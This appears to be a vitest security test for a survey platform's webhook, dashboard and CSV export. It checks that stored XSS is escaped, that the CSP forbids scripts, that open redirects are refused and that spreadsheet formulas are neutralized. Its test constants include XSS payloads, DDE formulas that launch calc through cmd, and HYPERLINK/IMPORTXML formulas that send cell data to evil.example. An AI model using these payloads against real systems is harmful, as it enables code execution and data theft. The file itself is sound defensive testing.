import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiApp } from '../../http/api/api-app.js';
import { dashboardRoutes } from '../../web/dashboard/routes.js';
import { parseCsv } from '../support/rfc4180.js';
import { startHarness, type Harness } from './support/harness.js';
import { callApi, issueRoleTokens, type Role } from './support/staff-api.js';
import { startVoiceNotes, type VoiceNotes } from './support/voice-notes.js';

/**
 * Injection through what participants and staff write, against the real webhook, API, dashboard and
 * export (DynamoDB Local): script in answers, transcripts, translations, a project name, a survey's
 * texts and a round label must be shown as text in every dashboard page (escaped, and the CSP forbids
 * any script even if one slipped through); and an answer a spreadsheet would run as a formula (= + - @
 * tab CR), also in a transcript, a translation, a question text or a round label, is neutralized in
 * both CSV flavours. The browser side (no dialog ever opens) is tests/e2e/attack-script-injection.test.ts.
 */

const SCRIPT = '<script>alert(1)</script><img src=x onerror=alert(1)>';
const PROJECT_NAME = '<img src=x onerror=alert(2)><script>alert(2)</script>';
const ROUND_LABEL = '=1+1 <b onmouseover=alert(3)>start</b>';
const TRANSCRIPT = '</td><script>alert(4)</script>';
const TRANSLATION = '"><svg onload=alert(5)>';
/** Cells a spreadsheet runs: OWASP's list of first characters. */
const FORMULAS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example","x")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
const FORMULA_TRANSCRIPT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const FORMULA_TRANSLATION = '@IMPORTXML("http://evil.example","//a")';

const SURVEY = {
  id: 'xss_survey',
  version: 1,
  title: { en: '<script>alert("title")</script>' },
  languages: ['en'],
  questions: [
    { id: 'consent', kind: 'consent', text: { en: 'Will you take part? <b>yes</b>' } },
    { id: 'story', kind: 'story', text: { en: '-Tell us <img src=x onerror=alert("q")>' } },
    {
      id: 'felt',
      kind: 'dyad',
      text: { en: '<svg onload=alert(6)>' },
      left: { en: '<script>alert(7)</script>' },
      right: { en: 'right"><script>alert(8)</script>' },
    },
    {
      id: 'difference',
      kind: 'triad',
      text: { en: '@what</title><script>alert(9)</script>' },
      corners: [{ en: '<a href="javascript:alert(10)">A</a>' }, { en: 'B</text><script>alert(11)</script>' }, { en: "C' onload='alert(12)" }],
    },
  ],
};

let h: Harness;
let notes: VoiceNotes;
let tokens: Record<Role, string>;
let api: ReturnType<typeof apiApp>;
let dashboard: ReturnType<typeof dashboardRoutes>;
let roundId = '';
let waitingJob = '';
let firstReply = '';

/** Real tags of a page (`<` then a letter): escaped text (`&lt;img …`) is not one. Attributes honour quotes. */
const TAG = /<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/** No script element, no event-handler attribute, no javascript: URL: nothing in the page can run. */
function expectInert(name: string, html: string): void {
  for (const [, tag = '', attributes = ''] of html.matchAll(TAG)) {
    expect(tag.toLowerCase(), `${name}: a <${tag}> element`).not.toBe('script');
    for (const [, attribute = '', a, b, c] of attributes.matchAll(ATTRIBUTE)) {
      expect(attribute.toLowerCase().startsWith('on'), `${name}: <${tag} ${attribute}=…>`).toBe(false);
      expect((a ?? b ?? c ?? '').trim().toLowerCase().startsWith('javascript:'), `${name}: <${tag} ${attribute}="javascript:…">`).toBe(false);
    }
  }
  // The payloads appear only escaped: a literal one would be a tag the pattern above must have seen.
  expect(html, name).not.toMatch(/<(script|img|svg onload|b on)/i);
}

async function page(path: string, role: Role = 'owner', init: RequestInit = {}) {
  const response = await dashboard.request(path, {
    ...init,
    headers: { cookie: `stem_token=${tokens[role]}`, host: 'localhost', ...(init.headers as Record<string, string> | undefined) },
  });
  return { status: response.status, csp: response.headers.get('content-security-policy') ?? '', html: await response.text() };
}

beforeAll(async () => {
  h = await startHarness();
  tokens = await issueRoleTokens(h);
  notes = await startVoiceNotes(h);
  api = apiApp({ ...h.deps, queue: { enqueue: async () => undefined }, voice: notes.voice });
  dashboard = dashboardRoutes(api);

  // Staff write the texts: a survey, a project and a round label with markup in them.
  expect((await callApi(api, tokens.owner, 'POST', '/api/surveys', SURVEY)).status).toBe(201);
  expect(
    (await callApi(api, tokens.owner, 'POST', '/api/projects', { projectId: 'xss', name: PROJECT_NAME, languages: ['en'], joinCode: 'XSS1' })).status,
  ).toBe(201);
  // Shared with the network as rows: the coordinator reads its voice answers too.
  expect((await callApi(api, tokens.owner, 'PUT', '/api/projects/xss/sharing', { level: 'rows' })).status).toBe(200);
  const now = h.clock.now().getTime();
  const launched = await callApi(api, tokens.owner, 'POST', '/api/projects/xss/rounds', {
    label: ROUND_LABEL,
    surveyId: SURVEY.id,
    surveyVersion: 1,
    opensAt: new Date(now).toISOString(),
    closesAt: new Date(now + 14 * 86_400_000).toISOString(),
  });
  expect(launched.status).toBe(201);
  roundId = String((launched.json?.round as { roundId: string }).roundId);

  // Participants answer the story in their own words through the signed webhook.
  const phones = [SCRIPT, ...FORMULAS].map((_, i) => `+3247073000${i}`);
  for (const [i, story] of [SCRIPT, ...FORMULAS].entries()) {
    const phone = phones[i] ?? '';
    // The language menu offers the one language; then consent, the story, the dyad and the triad.
    for (const text of ['JOIN XSS1', '1']) {
      const sent = await h.send({ channel: 'sms', phone, text });
      if (i === 0 && text === '1') firstReply = sent.body;
    }
    for (const text of ['yes', story, '3', '1']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
  }
  // Two tell it as a voice note; an interpreter of the network types the transcript and a translation.
  for (const [i, [transcript, translation]] of [
    [TRANSCRIPT, TRANSLATION],
    [FORMULA_TRANSCRIPT, FORMULA_TRANSLATION],
  ].entries()) {
    const phone = `+3247073010${i}`;
    for (const text of ['JOIN XSS1', '1', 'yes']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
    const jobId = await notes.toHumanQueue(phone);
    expect((await callApi(api, tokens.networkInterpreter, 'POST', `/api/voice/${jobId}/transcript`, { transcript, translation })).status).toBe(200);
    // They finish the survey (dyad, triad): results show only finished people, once five have.
    for (const text of ['3', '1']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
  }
  // One more waits in the queue, so the queue page shows the project and the question.
  const phone = '+32470730200';
  for (const text of ['JOIN XSS1', '1', 'yes']) expect((await h.send({ channel: 'sms', phone, text })).status).toBe(200);
  waitingJob = await notes.toHumanQueue(phone);
});
afterAll(async () => {
  await notes?.stop();
  await h?.stop();
});

describe('script in what participants and staff write is shown as text', () => {
  it('the participant hears the project name as text: the TwiML is well-formed and carries it unchanged', () => {
    const parsed = new XMLParser({ isArray: (name) => name === 'Message', parseTagValue: false, trimValues: false }).parse(firstReply) as {
      Response: { Message: string[] };
    };
    expect(parsed.Response.Message.join('\n')).toContain(PROJECT_NAME);
    expect(firstReply).not.toContain('<script>');
  });

  it('every dashboard page showing those texts escapes them, and its CSP allows no script at all', async () => {
    const pages = [
      '/dashboard',
      '/dashboard/projects/xss',
      '/dashboard/projects/xss/summary',
      `/dashboard/projects/xss/rounds/${encodeURIComponent(roundId)}/voice`,
      '/dashboard/voice',
      '/dashboard/surveys',
      `/dashboard/surveys/${SURVEY.id}/versions/1`,
    ];
    for (const path of pages) {
      const { status, csp, html } = await page(path);
      expect(status, path).toBe(200);
      expectInert(path, html);
      const directives = new Map(
        csp
          .split(';')
          .map((d) => d.trim().split(/\s+/))
          .map(([name = '', ...values]) => [name, values]),
      );
      expect(directives.get('default-src'), path).toEqual(["'none'"]);
      expect(directives.has('script-src'), path).toBe(false); // falls back to default-src 'none'
      expect(csp, path).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    }
    // The texts are there, as text.
    const escaped = (text: string) =>
      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;');
    expect((await page('/dashboard')).html).toContain(escaped(PROJECT_NAME));
    expect((await page('/dashboard/projects/xss')).html).toContain(escaped('=1+1 <b onmouseover=alert(3)>start</b>'));
    const voice = (await page(`/dashboard/projects/xss/rounds/${encodeURIComponent(roundId)}/voice`)).html;
    expect(voice).toContain(escaped(TRANSCRIPT));
    expect(voice).toContain(escaped(TRANSLATION));
    const summary = (await page('/dashboard/projects/xss/summary')).html;
    expect(summary).toContain(escaped(PROJECT_NAME));
    expect(summary).toContain('&lt;script&gt;alert(7)&lt;/script&gt;'); // a dyad pole, drawn in an SVG
  });

  it('the coordinator and an interpreter of the network see the same texts escaped', async () => {
    for (const [role, path] of [
      ['coordinator', '/dashboard/projects/xss/summary'],
      ['coordinator', `/dashboard/projects/xss/rounds/${encodeURIComponent(roundId)}/voice`],
      ['networkInterpreter', '/dashboard/voice'],
    ] as const) {
      const { status, html } = await page(path, role);
      expect(status, `${role} ${path}`).toBe(200);
      expectInert(`${role} ${path}`, html);
    }
    expect((await page('/dashboard/voice', 'networkInterpreter')).html).toContain(waitingJob);
  });

  it('what comes back from the URL or a form is escaped too: ids, query parameters, a refused transcript', async () => {
    const reflected = [
      `/dashboard/projects/${encodeURIComponent(SCRIPT)}`,
      `/dashboard/projects/xss/summary?lang=${encodeURIComponent(SCRIPT)}`,
      `/dashboard/projects/xss?done=${encodeURIComponent(SCRIPT)}`,
      `/dashboard/surveys/${encodeURIComponent('<script>x')}/versions/1`,
      `/dashboard/sign-in?next=${encodeURIComponent(`javascript:alert(1)//${SCRIPT}`)}`,
    ];
    for (const path of reflected) expectInert(path, (await page(path)).html);
    // Where to go after signing in is a path of this site, never a javascript: (or another site's) URL.
    for (const next of ['javascript:alert(1)', '//evil.example/x', 'https://evil.example/x', '/\\evil.example']) {
      const signIn = await page(`/dashboard/sign-in?next=${encodeURIComponent(next)}`);
      expect(signIn.html, next).toContain('name="next" value="/dashboard"');
    }
    // A transcript too long is sent back in its form, as typed: inside a textarea, still text.
    const form = new URLSearchParams({ transcript: `${'</textarea><script>alert(13)</script>'.repeat(200)}`, translation: TRANSLATION });
    const refused = await page(`/dashboard/voice/${encodeURIComponent(waitingJob)}`, 'networkInterpreter', {
      method: 'POST',
      headers: { origin: 'http://localhost', 'content-type': 'application/x-www-form-urlencoded' },
      body: form.toString(),
    });
    expect(refused.status).toBe(400);
    expectInert('refused transcript', refused.html);
    expect(refused.html).toContain('&lt;/textarea&gt;&lt;script&gt;alert(13)');
  });
});

describe('formulas in the CSV export are neutralized', () => {
  const FORMULA_START = /^[=+\-@\t\r]/;

  async function csv(path: string, separator: ',' | ';'): Promise<string[][]> {
    const response = await api.request(`${path}${separator === ';' ? '?separator=semicolon' : ''}`, {
      headers: { authorization: `Bearer ${tokens.coordinator}` },
    });
    expect(response.status).toBe(200);
    return parseCsv(
      Buffer.from(await response.arrayBuffer())
        .subarray(3)
        .toString('utf8'),
      separator,
    );
  }

  it('in answers, transcripts, translations, question texts and round labels, with either separator', async () => {
    const answers = await h.deps.store.answersOfRound('xss', roundId);
    const stored = (field: 'value' | 'transcript' | 'translation') =>
      answers.map((a) => a[field]).filter((v): v is string => typeof v === 'string' && FORMULA_START.test(v));
    // What was stored is what was typed (the export is where it must be made safe)…
    expect(stored('value').length).toBeGreaterThanOrEqual(FORMULAS.length - 2); // a leading tab or CR may be trimmed as whitespace
    expect(stored('transcript')).toContain(FORMULA_TRANSCRIPT);
    expect(stored('translation')).toContain(FORMULA_TRANSLATION);

    for (const path of [`/api/projects/xss/rounds/${encodeURIComponent(roundId)}/results.csv`, '/api/projects/xss/results.csv']) {
      for (const separator of [',', ';'] as const) {
        const rows = await csv(path, separator);
        const data = rows.slice(1);
        expect(data.length, path).toBeGreaterThan(FORMULAS.length * 4);
        // …and no cell of the file starts a formula: each such text starts with ' in the export.
        for (const row of data) for (const cell of row) expect(FORMULA_START.test(cell), `${path} ${separator} ${JSON.stringify(cell)}`).toBe(false);
        const cells = new Set(data.flat());
        for (const value of [...stored('value'), FORMULA_TRANSCRIPT, FORMULA_TRANSLATION]) expect(cells.has(`'${value}`), JSON.stringify(value)).toBe(true);
        expect(data.every((r) => r[1] === `'${ROUND_LABEL}`)).toBe(true);
        expect(cells.has(`'${SURVEY.questions[1]?.text.en ?? ''}`)).toBe(true);
        expect(cells.has(`'${SURVEY.questions[3]?.text.en ?? ''}`)).toBe(true);
        // Script stays as it was written: a CSV is not HTML; neutralizing is for formulas only.
        expect(cells.has(SCRIPT)).toBe(true);
      }
    }
  });
});
